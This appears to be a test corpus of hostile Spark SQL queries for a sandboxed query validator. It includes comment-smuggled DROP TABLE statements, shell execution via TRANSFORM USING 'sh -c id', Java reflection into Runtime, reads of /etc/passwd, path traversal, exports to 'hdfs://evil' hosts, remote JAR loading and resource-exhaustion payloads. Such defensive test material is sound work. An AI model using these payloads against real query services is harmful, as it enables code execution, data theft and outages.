# Statements hidden in comments, quotes and odd characters.
/* SELECT 1 */ DROP TABLE t
/* /* nested */ SELECT 1 */ DROP TABLE t
-- SELECT 1 \
/*+ BROADCAST(t) */ DROP TABLE t
SELECT 1 /* '*/; DROP TABLE t -- '
SELECT '\'' ; DROP TABLE t -- '
SELECT "a" ; DROP TABLE t
SELECT r'\' ; DROP TABLE t -- '
SELECT `a``; DROP TABLE t` ; DROP TABLE t
SELECT 1; SELECT 2
; DROP TABLE t
SELECT 1 ; ; SET x = 1
; DROP TABLE t
(DROP TABLE t)
SELECT (DROP TABLE t)
SELECT * FROM (DROP TABLE t)
WITH q AS (DROP TABLE t) SELECT * FROM q
WITH q AS (INSERT INTO t SELECT 1) SELECT * FROM q
SELECT * FROM (INSERT INTO t SELECT 1)
SELECT * FROM (DELETE FROM t)
FROM t INSERT INTO a SELECT x INSERT INTO b SELECT y
WITH q AS (SELECT 1 AS a) FROM q INSERT OVERWRITE DIRECTORY '/tmp/evil' USING json SELECT a
FROM (SELECT 1 AS a) q INSERT OVERWRITE LOCAL DIRECTORY '/tmp/evil' USING parquet SELECT a
WITH q AS (SELECT 1) DELETE FROM t
WITH q AS (SELECT 1) UPDATE t SET a = 1
WITH q AS (SELECT 1) MERGE INTO t USING q ON true WHEN MATCHED THEN DELETE
INSERT INTO t BY NAME SELECT 1
INSERT INTO t REPLACE WHERE a = 1 SELECT 1
INSERT OVERWRITE t PARTITION (a = 1) SELECT 1
INSERT OVERWRITE DIRECTORY 'file:///tmp/evil' USING text SELECT 'x'
INSERT OVERWRITE DIRECTORY 'hdfs://evil/x' USING csv SELECT 1
INSERT OVERWRITE DIRECTORY '/tmp/evil' STORED AS textfile SELECT 1
INSERT INTO IDENTIFIER('t') SELECT 1
INSERT INTO `test/people.csv` SELECT 1
CREATE TABLE t AS SELECT 1
CREATE TABLE IF NOT EXISTS t LIKE u LOCATION '/tmp/evil'
CREATE OR REPLACE TEMPORARY VIEW v USING jdbc OPTIONS (url 'jdbc:hsqldb:file:/tmp/evil', dbtable 'x')
CREATE TEMPORARY VIEW v USING text OPTIONS (path '/etc/passwd')
CREATE TEMPORARY VIEW v USING org.apache.spark.sql.execution.datasources.text.TextFileFormat OPTIONS (path '/etc/passwd')
CREATE DATABASE d LOCATION '/tmp/evil'
CREATE NAMESPACE n
CREATE TABLE t (a INT) USING hive
CREATE TABLE t (a INT) TBLPROPERTIES ('a' = 'b')
CREATE STREAMING TABLE t AS SELECT 1
CREATE FLOW f AS INSERT INTO t BY NAME SELECT 1
REPLACE TABLE t USING parquet AS SELECT 1
LOAD DATA LOCAL INPATH '/etc/passwd' INTO TABLE t
LOAD DATA INPATH 'hdfs://evil/x' INTO TABLE t
ALTER TABLE t RENAME TO u
ALTER TABLE t ADD PARTITION (a = 1) LOCATION '/etc'
ALTER TABLE t SET TBLPROPERTIES ('a' = 'b')
REFRESH FUNCTION f
SHOW CREATE TABLE t
SHOW TBLPROPERTIES t
SHOW FUNCTIONS
SHOW CATALOGS
SHOW COLUMNS IN t
SHOW CURRENT NAMESPACE
DESCRIBE EXTENDED t
DESCRIBE FUNCTION EXTENDED reflect
EXPLAIN SELECT 1
EXPLAIN EXTENDED SELECT * FROM `test/people.csv`
EXPLAIN COST SELECT 1
EXPLAIN CODEGEN SELECT 1
EXPLAIN EXPLAIN SELECT 1
CLEAR CACHE
ADD FILES '/etc/passwd' '/etc/group'
ADD JAR ivy://org.example:evil:1.0
LIST ARCHIVES
SET spark.sql.variable.substitute = true
SET -v
SET TIME ZONE 'Europe/Oslo'
SET TIME ZONE LOCAL
SET x.y.z
SET `spark.sql.ansi.enabled` = false
SET VAR x = 1
SET CATALOG spark_catalog
USE SCHEMA default
USE IDENTIFIER('default')
DECLARE x = 1
DROP TEMPORARY VARIABLE x
EXECUTE IMMEDIATE 'SELECT ' || '1'
EXECUTE IMMEDIATE 'SELECT :x' USING 1 AS x
EXECUTE IMMEDIATE 'SELECT 1' INTO x
BEGIN SELECT 1; END
BEGIN DECLARE x INT DEFAULT 1; SELECT x; END
BEGIN NOT ATOMIC SELECT 1; END
BEGIN IF true THEN SELECT 1; END IF; END
BEGIN WHILE true DO SELECT 1; END WHILE; END
BEGIN REPEAT SELECT 1; UNTIL true END REPEAT; END
BEGIN FOR r AS SELECT 1 DO DROP TABLE t; END FOR; END
BEGIN LOOP SELECT 1; END LOOP; END
l: BEGIN LEAVE l; END
BEGIN DECLARE EXIT HANDLER FOR SQLEXCEPTION BEGIN END; SELECT 1/0; END
BEGIN DECLARE c CURSOR FOR SELECT 1; OPEN c; FETCH c INTO x; CLOSE c; END
CALL spark_catalog.system.f(a => 1)
# Code of the server and programs.
SELECT MAP(a) USING 'sh -c id' AS (b) FROM VALUES (1) AS t(a)
SELECT TRANSFORM(*) USING 'cat' FROM VALUES (1) AS t(a)
SELECT TRANSFORM(a) ROW FORMAT DELIMITED FIELDS TERMINATED BY ',' USING 'cat' AS (b) FROM VALUES (1) AS t(a)
FROM VALUES (1) AS t(a) MAP a USING 'id' AS b
FROM VALUES (1) t(a) |> SELECT TRANSFORM(a) USING 'id' AS (b)
SELECT * FROM VALUES (1) t(a) WHERE EXISTS (SELECT TRANSFORM(a) USING 'id' AS (b) FROM VALUES (1) AS u(a))
SELECT REFLECT('java.lang.Runtime', 'getRuntime')
SELECT `java_method`('java.lang.System', 'exit', 1)
SELECT Try_Reflect('java.lang.System', 'getProperty', 'user.dir')
SELECT spark_catalog.default.reflect('java.lang.System', 'getProperty', 'user.dir')
SELECT system.session.reflect('java.lang.System', 'getProperty', 'user.dir')
SELECT global_temp.reflect('java.lang.System', 'getProperty', 'user.dir')
SELECT builtin.java_method('java.lang.System', 'getenv', 'HOME')
SELECT `system`.`builtin`.`java_method`('java.lang.System', 'getenv', 'HOME')
SELECT IDENTIFIER('system.builtin.reflect')('java.lang.System', 'getProperty', 'user.dir')
SELECT IDENTIFIER(lower('REFLECT'))('java.lang.System', 'getProperty', 'user.dir')
SELECT IDENTIFIER('ref' 'lect')('java.lang.System', 'getProperty', 'user.dir')
SELECT IDENTIFIER(CASE WHEN true THEN 'reflect' END)('java.lang.System', 'getProperty', 'user.dir')
SELECT abs(length(reflect('java.lang.System', 'getProperty', 'user.dir')))
SELECT CASE WHEN reflect('java.lang.System', 'getProperty', 'user.dir') = '' THEN 1 END
SELECT reflect('java.lang.System', 'getProperty', 'user.dir')::binary
SELECT named_struct('a', reflect('java.lang.System', 'getProperty', 'user.dir')).a
SELECT aggregate(array(1), '', (a, x) -> a || reflect('java.lang.System', 'getProperty', 'user.dir'))
SELECT zip_with(array(1), array(2), (x, y) -> java_method('java.lang.Math', 'max', x, y))
SELECT sum(id) FILTER (WHERE reflect('java.lang.System', 'getProperty', 'user.dir') = '') FROM range(3)
SELECT sum(id) OVER (PARTITION BY reflect('java.lang.System', 'getProperty', 'user.dir')) FROM range(3)
SELECT sum(id) OVER w FROM range(3) WINDOW w AS (ORDER BY reflect('java.lang.System', 'getProperty', 'user.dir'))
SELECT listagg(id) WITHIN GROUP (ORDER BY reflect('java.lang.System', 'getProperty', 'user.dir')) FROM range(3)
SELECT * FROM range(3) GROUP BY ALL HAVING reflect('java.lang.System', 'getProperty', 'user.dir') = ''
SELECT id FROM range(3) GROUP BY CUBE (id, reflect('java.lang.System', 'getProperty', 'user.dir'))
SELECT id FROM range(3) GROUP BY GROUPING SETS ((reflect('java.lang.System', 'getProperty', 'user.dir')), ())
SELECT * FROM range(3) DISTRIBUTE BY reflect('java.lang.System', 'getProperty', 'user.dir')
SELECT * FROM range(3) SORT BY reflect('java.lang.System', 'getProperty', 'user.dir')
SELECT * FROM range(3) LIMIT length(reflect('java.lang.System', 'getProperty', 'user.dir'))
SELECT * FROM range(3) OFFSET length(reflect('java.lang.System', 'getProperty', 'user.dir'))
SELECT * FROM range(length(reflect('java.lang.System', 'getProperty', 'user.dir')))
SELECT * FROM range(3) TABLESAMPLE (length(reflect('java.lang.System', 'getProperty', 'user.dir')) ROWS)
SELECT * FROM explode(array(reflect('java.lang.System', 'getProperty', 'user.dir')))
SELECT * FROM range(3) LATERAL VIEW explode(array(reflect('java.lang.System', 'getProperty', 'user.dir'))) v AS x
SELECT * FROM range(3) a JOIN range(3) b ON reflect('java.lang.System', 'getProperty', 'user.dir') = ''
SELECT * FROM VALUES (1, 2) t(a, b) PIVOT (max(reflect('java.lang.System', 'getProperty', 'user.dir')) FOR a IN (1))
SELECT * FROM VALUES (1, 2) t(a, b) PIVOT (max(b) FOR a IN (reflect('java.lang.System', 'getProperty', 'user.dir')))
SELECT * FROM range(3) QUALIFY reflect('java.lang.System', 'getProperty', 'user.dir') = ''
FROM range(3) |> EXTEND reflect('java.lang.System', 'getProperty', 'user.dir') AS x
FROM range(3) |> SET id = reflect('java.lang.System', 'getProperty', 'user.dir')
FROM range(3) |> WHERE reflect('java.lang.System', 'getProperty', 'user.dir') = ''
FROM range(3) |> AGGREGATE count(*) GROUP BY reflect('java.lang.System', 'getProperty', 'user.dir')
FROM range(3) |> ORDER BY reflect('java.lang.System', 'getProperty', 'user.dir')
FROM range(3) |> JOIN range(2) b ON reflect('java.lang.System', 'getProperty', 'user.dir') = ''
SELECT 1 IN (SELECT reflect('java.lang.System', 'getProperty', 'user.dir'))
SELECT (WITH q AS (SELECT reflect('java.lang.System', 'getProperty', 'user.dir') AS x) SELECT x FROM q)
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT length(reflect('java.lang.System', 'getProperty', 'user.dir')) FROM r) SELECT * FROM r LIMIT 3
SELECT * EXCEPT (id), reflect('java.lang.System', 'getProperty', 'user.dir') FROM range(3)
# Files and addresses, past the names of datasets.
SELECT * FROM text.`/etc/passwd` a, text.`/etc/passwd` b
SELECT * FROM TEXT . `/etc/passwd`
SELECT * FROM `text`.`/etc/passwd`
SELECT * FROM text./**/`/etc/passwd`
SELECT * FROM orc.`/etc/passwd`
SELECT * FROM parquet.`/etc/passwd`
SELECT * FROM jdbc.`jdbc:hsqldb:file:/tmp/evil`
SELECT * FROM kafka.`x`
SELECT * FROM delta.`/etc`
SELECT * FROM hive.`/etc`
SELECT * FROM spark_catalog.text.`/etc/passwd`
SELECT * FROM spark_catalog.default.t
SELECT * FROM global_temp.v
SELECT * FROM system.session.v
SELECT * FROM session.v
SELECT * FROM builtin.range(3)
SELECT * FROM system.builtin.range(3)
SELECT * FROM spark_catalog.default.range(3)
SELECT * FROM `tb:///test/people.csv`
SELECT * FROM `tb:/test/people.csv`
SELECT * FROM csv.`tb:///test/people.csv`
SELECT * FROM `file:///etc/passwd`
SELECT * FROM `http://127.0.0.1:9/x.csv`
SELECT * FROM `hdfs://evil/x.csv`
SELECT * FROM `jar:file:/tmp/x.jar!/a.csv`
SELECT * FROM `test//people.csv`
SELECT * FROM `test/./people.csv`
SELECT * FROM `./test/people.csv`
SELECT * FROM `test\people.csv`
SELECT * FROM `test/people.csv/`/etc
SELECT * FROM `uploads/../../tokens.json`
SELECT * FROM `results/..`
SELECT * FROM `results/../../../etc/passwd`
SELECT * FROM `results/not-a-job`
SELECT * FROM `results/00000000-0000-0000-0000-000000000000`
SELECT * FROM `test/people.csv` WITH (pathGlobFilter = '*')
SELECT * FROM `test/people.csv` WITH (recursiveFileLookup = 'true')
SELECT * FROM `test/people.csv` WITH (basePath = '/etc')
SELECT * FROM `test/people.csv` WITH (`fs.tb.impl` = 'org.apache.hadoop.fs.LocalFileSystem')
SELECT * FROM `test/people.csv` WITH (`spark.hadoop.fs.tb.impl` = 'x')
SELECT * FROM `test/people.csv` WITH (badRecordsPath = '/tmp/evil')
SELECT * FROM `test/people.csv` WITH (modifiedAfter = '2020-01-01')
SELECT * FROM read_csv(path => '/etc/passwd')
SELECT * FROM read_csv('test/people.csv', path => '/etc/passwd')
SELECT * FROM read_csv('test/people.csv', `fs.tb.impl` => 'x')
SELECT * FROM read_csv('test/' || 'people.csv')
SELECT * FROM read_csv((SELECT 'test/people.csv'))
SELECT * FROM read_csv('file:///etc/passwd')
SELECT * FROM read_text('/etc/passwd')
SELECT * FROM read_json('http://127.0.0.1:9/')
SELECT * FROM read_parquet('hdfs://evil/x')
SELECT * FROM read_orc('../../etc/passwd')
SELECT * FROM read_xml('test/people.csv')
SELECT * FROM read_csv('test/people.csv', schema => '{"type":"udt","class":"java.lang.Runtime"}')
SELECT * FROM STREAM read_csv('test/people.csv')
SELECT * FROM STREAM `test/people.csv`
SELECT * FROM STREAM(range(3))
SELECT * FROM `test/people.csv` TIMESTAMP AS OF '2020-01-01'
SELECT * FROM `test/people.csv` FOR SYSTEM_VERSION AS OF 1
SELECT * FROM `test/people.csv`@v1
SELECT _metadata FROM `test/people.csv`
SELECT _METADATA.file_path FROM `test/people.csv`
SELECT `test/people.csv`._metadata.file_path FROM `test/people.csv`
SELECT to_json(_metadata) FROM `test/people.csv`
SELECT t.x FROM (SELECT _metadata.file_name AS x FROM `test/people.csv`) t
SELECT count(*) FROM `test/people.csv` GROUP BY _metadata.file_path
SELECT * FROM `test/people.csv` ORDER BY _metadata.file_path
FROM `test/people.csv` |> EXTEND _metadata.file_path AS p
SELECT input_file_name()
SELECT INPUT_FILE_NAME() FROM `test/people.csv`
SELECT transform(array(1), x -> input_file_name()) FROM `test/people.csv`
SELECT CURRENT_USER FROM `test/people.csv`
SELECT upper(user) FROM range(1)
SELECT session_user || '' FROM range(1)
SELECT current_catalog()
SELECT current_catalog
SELECT current_database()
SELECT current_schema()
SELECT current_path()
FROM range(1) |> EXTEND current_user AS u
SELECT * FROM range(1) WHERE current_user = 'x'
# XML, classes and libraries.
SELECT xpath('<a/>', 'a')
SELECT xpath_int('<a>1</a>', 'a')
SELECT XPATH_BOOLEAN('<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>', 'a')
SELECT from_xml('<a/>', 'a INT', map('rowValidationXSDPath', '/etc/passwd'))
SELECT to_xml(named_struct('a', 1))
SELECT schema_of_avro('{"type":"int"}')
SELECT to_avro(1)
SELECT to_protobuf(struct(1), 'M', '/etc/passwd')
SELECT from_json('{}', '{"type":"udt","class":"org.apache.spark.sql.test.ExamplePointUDT"}')
SELECT from_json('{}', '{"type":"\u0075dt","class":"java.lang.Runtime"}')
SELECT from_csv('1', concat('a ', 'INT'))
SELECT from_json('{}', repeat('ARRAY<', 500) || 'INT' || repeat('>', 500))
SELECT from_json('{}', (SELECT 'a INT'))
SELECT from_json('{}', 'a ARRAY<ARRAY<ARRAY<ARRAY<ARRAY<ARRAY<ARRAY<ARRAY<ARRAY<ARRAY<ARRAY<ARRAY<ARRAY<ARRAY<ARRAY<ARRAY<ARRAY<ARRAY<ARRAY<ARRAY<ARRAY<ARRAY<ARRAY<ARRAY<ARRAY<ARRAY<ARRAY<ARRAY<ARRAY<ARRAY<ARRAY<ARRAY<ARRAY<INT>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>>')
SELECT variant_get(parse_json('1'), '$', repeat('ARRAY<', 500))
SELECT CAST(1 AS java.lang.Runtime)
SELECT 1::`java.lang.Runtime`
# Work that no query may ask for.
SELECT /*+ COALESCE(1) */ * FROM range(3)
SELECT /*+ REPARTITION_BY_RANGE(100000, id) */ * FROM range(3)
SELECT /*+ REBALANCE(100000) */ * FROM range(3)
SELECT /*+ BROADCAST(a), REPARTITION(1000000) */ * FROM range(3) a
SELECT * FROM (SELECT /*+ REPARTITION(1000000) */ * FROM range(3))
SELECT * FROM range(0, 10, 1, numPartitions => 100000000)
SELECT * FROM range(3) GROUP BY CUBE (1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11)
SELECT 1 FROM range(3) GROUP BY a, b, c, d, e, f, g, h, i, j, k WITH CUBE
SELECT 1 FROM range(3) GROUP BY CUBE (a, b, c, d, e, f), CUBE (g, h, i, j, k, l)
SELECT * FROM VALUES (sequence(1, 1000000000)) t(a)
SELECT * FROM range(3) LIMIT length(repeat('a', 2000000000))
SELECT * FROM range(3) OFFSET size(sequence(1, 1000000000))
SELECT * FROM range(size(sequence(1, 1000000000)))
SELECT * FROM range(aggregate(sequence(1, 50000), 0L, (a, x) -> a + x))
SELECT * FROM collations()
SELECT * FROM sql_keywords()
SELECT * FROM PYTHON_WORKER_LOGS()
SELECT :1
SELECT :`a b`
SELECT * FROM :t
SELECT IDENTIFIER(:c) FROM range(1)
SELECT DEFAULT
VALUES (DEFAULT)
SELECT f(1)
SELECT * FROM f(a => TABLE(range(3)))
SELECT * FROM f(TABLE(range(3)) PARTITION BY id)
SELECT system.session.x
SELECT @@version
SELECT 1E2147483647BD
SELECT * FROM t1 ANTI SEMI JOIN t2
GRANT SELECT ON t TO u
REVOKE ALL ON t FROM u
KILL 1
SHUTDOWN
COPY t TO '/tmp/evil'
EXPORT TABLE t TO '/tmp/evil'
IMPORT FROM '/etc/passwd'
ATTACH '/etc/passwd'
PRAGMA user_version
VACUUM
OPTIMIZE t
SOURCE /etc/passwd
! cat /etc/passwd
# Values that Spark computes while it resolves names, where nothing can interrupt it.
SELECT named_struct(repeat('a', 1000000000), 1)
SELECT round(1.5, size(sequence(1, 1000000000)))
SELECT percentile_approx(id, 0.5, size(sequence(1, 1000000000))) FROM range(3)
SELECT histogram_numeric(id, size(sequence(1, 1000000000))) FROM range(3)
SELECT ntile(size(sequence(1, 1000000000))) OVER (ORDER BY id) FROM range(3)
SELECT lag(id, size(sequence(1, 1000000000))) OVER (ORDER BY id) FROM range(3)
SELECT sum(id) OVER (ORDER BY id ROWS BETWEEN size(sequence(1, 1000000000)) PRECEDING AND CURRENT ROW) FROM range(3)
SELECT from_json('{}', 'a INT', map('mode', repeat('a', 1000000000)))
SELECT to_json(struct(1), map('dateFormat', repeat('y', 1000000000)))
SELECT json_tuple('{}', repeat('a', 1000000000))
SELECT to_number('1', repeat('9', 1000000000))
SELECT round(1.5, regexp_count('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!', '(a+)+$'))
SELECT from_json('{}', 'a \u002f* x *\u002f INT')
SELECT from_csv('1', 'a /* x */ INT')
